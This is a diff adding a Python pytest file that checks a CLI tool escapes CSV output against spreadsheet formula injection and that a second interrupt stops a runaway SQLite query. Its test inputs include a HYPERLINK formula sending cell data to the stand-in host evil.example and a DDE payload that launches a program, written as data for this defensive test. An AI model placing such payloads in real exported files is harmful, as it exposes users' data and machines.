@@ -1,0 +1,77 @@
+"""CSV that is opened in a spreadsheet runs nothing; numbers stay numbers; --raw gives every byte."""
+
+from __future__ import annotations
+
+import csv
+import io
+import signal
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
+
+from hf_providers.text import for_spreadsheet
+from tests.cli.hfp import Hfp, catalog, model
+
+FORMULA = '=HYPERLINK("http://evil.example/"&A1)'
+
+
+def cells(text: str) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(text)))
+
+
+@pytest.mark.parametrize(
+    "text", [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\tx", "\rx", "--1", "+-", "-", "-1.2.3"]
+)
+def test_what_a_spreadsheet_would_run_is_text(text: str) -> None:
+    assert for_spreadsheet(text) == f"'{text}"
+
+
+@pytest.mark.parametrize("text", ["-1", "+1", "-0.000000001", "1", "a=b", "", "'=1", "acme/Chat"])
+def test_numbers_and_other_text_stay(text: str) -> None:
+    assert for_spreadsheet(text) == text
+
+
+def test_names_of_strangers_are_quoted_unless_raw(hfp: Hfp, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    path = catalog(tmp_path / "catalog.sqlite", {"models": [model("=cmd/Model-1", license=FORMULA, likes=3)]})
+    monkeypatch.setenv("HFP_SNAPSHOT", str(path))
+    assert cells(hfp("models", "--format", "csv").out)[1][0] == "'=cmd/Model-1"
+    assert cells(hfp("models", "--format", "csv", "--raw").out)[1][0] == "=cmd/Model-1"
+    assert hfp("models", "--json").rows[0]["model_id"] == "=cmd/Model-1"
+
+
+def test_sql_quotes_text_and_no_number(hfp: Hfp, data: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("HFP_SNAPSHOT", str(data))
+    query = "SELECT '=1+1' AS \"=a\", -0.5::DECIMAL(9,2) AS d, -7 AS n, -1.5::DOUBLE AS f, 1e-9::DOUBLE AS small"
+    assert cells(hfp("sql", query, "--format", "csv").out) == [
+        ["'=a", "d", "n", "f", "small"],
+        ["'=1+1", "-0.5", "-7", "-1.5", "1e-09"],
+    ]
+    assert cells(hfp("sql", query, "--format", "csv", "--raw").out)[1][0] == "=1+1"
+
+
+ENDLESS = """
+import sqlite3
+from hf_providers.cli import interrupts
+interrupts.end_at_second()
+print("ready", flush=True)
+query = "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n) SELECT max(i) FROM n"
+sqlite3.connect(":memory:").execute(query).fetchall()
+"""
+
+
+def test_a_second_interrupt_ends_what_does_not_listen() -> None:
+    """Python hears of no signal while a library works: the statement here has no end."""
+    command = [sys.executable, "-c", ENDLESS]
+    with subprocess.Popen(command, stdout=subprocess.PIPE, text=True) as process:
+        assert process.stdout is not None
+        assert process.stdout.readline() == "ready\n"
+        process.send_signal(signal.SIGINT)
+        with pytest.raises(subprocess.TimeoutExpired):
+            process.wait(timeout=0.3)
+        process.send_signal(signal.SIGINT)
+        try:
+            assert process.wait(timeout=30) == 130
+        finally:
+            process.kill()
